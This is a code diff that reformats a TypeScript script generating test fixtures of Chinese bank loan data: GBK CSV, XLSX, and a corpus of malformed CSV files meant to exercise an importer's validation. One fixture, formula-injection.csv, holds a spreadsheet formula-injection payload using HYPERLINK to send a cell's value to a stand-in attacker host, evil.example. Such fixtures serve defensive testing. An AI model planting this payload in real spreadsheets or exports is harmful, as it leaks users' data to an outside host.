@@ -29,14 +29,15 @@ write(
 );
 
 // Core-system loan detail: GBK, Chinese headers, amounts in 万元, thousands separators, slashed dates, rates with %.
-const loanHeader = "借据号,客户编号,产品,金额(万元),执行利率,期限(月),发放日期,到期日,担保方式,五级分类,考核贷款年日均(元),累计天数";
+const loanHeader =
+  "借据号,客户编号,产品,金额(万元),执行利率,期限(月),发放日期,到期日,担保方式,五级分类,考核贷款年日均(元),累计天数";
 const gbkLines = [
   loanHeader,
-  "L2015001,C001,流动资金贷款,500,4.35%,12,2015/1/31,2016/1/31,保证,正常,\"4,200,000.00\",360",
-  "L2015002,C001,固定资产贷款,1200.5,4.90%,60,2015/3/15,2020/3/15,抵押,正常,\"11,850,000.00\",360",
-  "L2015003,C002,流动资金贷款,800,5.00%,12,20150610,20160610,信用,关注,\"7,600,000.00\",205",
-  "L2015004,C003,小微企业贷款,50,6.50%,6,2015-08-01,2016-01-31,质押,次级,\"480,000.00\",150",
-  "L2015005,C005,项目贷款,3000,4.75%,120,2015/10/8,2025/10/8,抵押,正常,\"29,000,000.00\",85",
+  'L2015001,C001,流动资金贷款,500,4.35%,12,2015/1/31,2016/1/31,保证,正常,"4,200,000.00",360',
+  'L2015002,C001,固定资产贷款,1200.5,4.90%,60,2015/3/15,2020/3/15,抵押,正常,"11,850,000.00",360',
+  'L2015003,C002,流动资金贷款,800,5.00%,12,20150610,20160610,信用,关注,"7,600,000.00",205',
+  'L2015004,C003,小微企业贷款,50,6.50%,6,2015-08-01,2016-01-31,质押,次级,"480,000.00",150',
+  'L2015005,C005,项目贷款,3000,4.75%,120,2015/10/8,2025/10/8,抵押,正常,"29,000,000.00",85',
 ];
 write("loans-gbk.csv", iconv.encode(crlf(gbkLines), "gbk"));
 
@@ -47,11 +48,63 @@ async function writeLoansXlsx(): Promise<void> {
   const cover = workbook.addWorksheet("说明");
   cover.addRow(["本文件由信贷管理系统导出"]);
   const sheet = workbook.addWorksheet("贷款明细");
-  sheet.addRow(["借据编号", "客户号", "业务品种", "贷款金额(元)", "执行年利率", "贷款期限", "起始日期", "到期日期", "主要担保方式", "风险分类", "贷款年日均", "计息天数"]);
+  sheet.addRow([
+    "借据编号",
+    "客户号",
+    "业务品种",
+    "贷款金额(元)",
+    "执行年利率",
+    "贷款期限",
+    "起始日期",
+    "到期日期",
+    "主要担保方式",
+    "风险分类",
+    "贷款年日均",
+    "计息天数",
+  ]);
   const rows: [string, string, string, number, number, number, Date, Date, string, string, number, number][] = [
-    ["L2016001", "C002", "流动资金贷款", 3_000_000, 0.0435, 12, new Date(Date.UTC(2016, 0, 15)), new Date(Date.UTC(2017, 0, 15)), "guarantee", "normal", 2_950_000.5, 351],
-    ["L2016002", "C004", "贸易融资", 1_500_000, 0.0522, 6, new Date(Date.UTC(2016, 1, 29)), new Date(Date.UTC(2016, 7, 29)), "pledge", "special mention", 740_000, 182],
-    ["L2016003", "C005", "固定资产贷款", 20_000_000, 0.049, 36, new Date(Date.UTC(2016, 5, 30)), new Date(Date.UTC(2019, 5, 30)), "collateral", "normal", 10_100_000, 184],
+    [
+      "L2016001",
+      "C002",
+      "流动资金贷款",
+      3_000_000,
+      0.0435,
+      12,
+      new Date(Date.UTC(2016, 0, 15)),
+      new Date(Date.UTC(2017, 0, 15)),
+      "guarantee",
+      "normal",
+      2_950_000.5,
+      351,
+    ],
+    [
+      "L2016002",
+      "C004",
+      "贸易融资",
+      1_500_000,
+      0.0522,
+      6,
+      new Date(Date.UTC(2016, 1, 29)),
+      new Date(Date.UTC(2016, 7, 29)),
+      "pledge",
+      "special mention",
+      740_000,
+      182,
+    ],
+    [
+      "L2016003",
+      "C005",
+      "固定资产贷款",
+      20_000_000,
+      0.049,
+      36,
+      new Date(Date.UTC(2016, 5, 30)),
+      new Date(Date.UTC(2019, 5, 30)),
+      "collateral",
+      "normal",
+      10_100_000,
+      184,
+    ],
   ];
   for (const row of rows) sheet.addRow(row);
   sheet.getColumn(5).numFmt = "0.00%";
@@ -63,12 +116,17 @@ async function writeLoansXlsx(): Promise<void> {
 }
 
 // The bad corpus: each file has exactly one named problem.
-const englishLoanHeader = "loan_id,customer_id,product,amount,rate,term_months,start_date,maturity_date,guarantee,classification,avg_daily_balance,days";
-const goodLoan = (id: string, customer = "C001") => `${id},${customer},working capital,1000000.00,4.35,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350`;
+const englishLoanHeader =
+  "loan_id,customer_id,product,amount,rate,term_months,start_date,maturity_date,guarantee,classification,avg_daily_balance,days";
+const goodLoan = (id: string, customer = "C001") =>
+  `${id},${customer},working capital,1000000.00,4.35,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350`;
 write("bad/empty.csv", "");
 write("bad/header-only.csv", crlf([englishLoanHeader]));
 write("bad/wrong-delimiter.csv", crlf([englishLoanHeader.replaceAll(",", " "), goodLoan("L1").replaceAll(",", " ")]));
-write("bad/truncated-last-line.csv", `${crlf([englishLoanHeader, goodLoan("L1"), goodLoan("L2")])}L3,C001,working capital,1000000.00,4.3`);
+write(
+  "bad/truncated-last-line.csv",
+  `${crlf([englishLoanHeader, goodLoan("L1"), goodLoan("L2")])}L3,C001,working capital,1000000.00,4.3`,
+);
 let seed = 20250101;
 const junk = Buffer.alloc(4096);
 for (let i = 0; i < junk.length; i++) {
@@ -78,9 +136,37 @@ for (let i = 0; i < junk.length; i++) {
 write("bad/binary-junk.csv", junk);
 write("bad/duplicate-keys.csv", crlf([englishLoanHeader, goodLoan("L1"), goodLoan("L2"), goodLoan("L1")]));
 write("bad/unknown-customer.csv", crlf([englishLoanHeader, goodLoan("L1"), goodLoan("L2", "C999")]));
-write("bad/rate-basis-points.csv", crlf([englishLoanHeader, goodLoan("L1"), "L2,C001,working capital,1000000.00,4350,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350"]));
-write("bad/negative-amount.csv", crlf([englishLoanHeader, goodLoan("L1"), "L2,C001,working capital,-1000000.00,4.35,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350"]));
-write("bad/invalid-date.csv", crlf([englishLoanHeader, goodLoan("L1"), "L2,C001,working capital,1000000.00,4.35,12,2015-02-30,2026-01-15,guarantee,normal,900000.00,350"]));
-write("bad/formula-injection.csv", crlf([englishLoanHeader, goodLoan("L1"), 'L2,C001,"=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",1000000.00,4.35,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350']));
+write(
+  "bad/rate-basis-points.csv",
+  crlf([
+    englishLoanHeader,
+    goodLoan("L1"),
+    "L2,C001,working capital,1000000.00,4350,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350",
+  ]),
+);
+write(
+  "bad/negative-amount.csv",
+  crlf([
+    englishLoanHeader,
+    goodLoan("L1"),
+    "L2,C001,working capital,-1000000.00,4.35,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350",
+  ]),
+);
+write(
+  "bad/invalid-date.csv",
+  crlf([
+    englishLoanHeader,
+    goodLoan("L1"),
+    "L2,C001,working capital,1000000.00,4.35,12,2015-02-30,2026-01-15,guarantee,normal,900000.00,350",
+  ]),
+);
+write(
+  "bad/formula-injection.csv",
+  crlf([
+    englishLoanHeader,
+    goodLoan("L1"),
+    'L2,C001,"=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",1000000.00,4.35,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350',
+  ]),
+);
 
 await writeLoansXlsx();
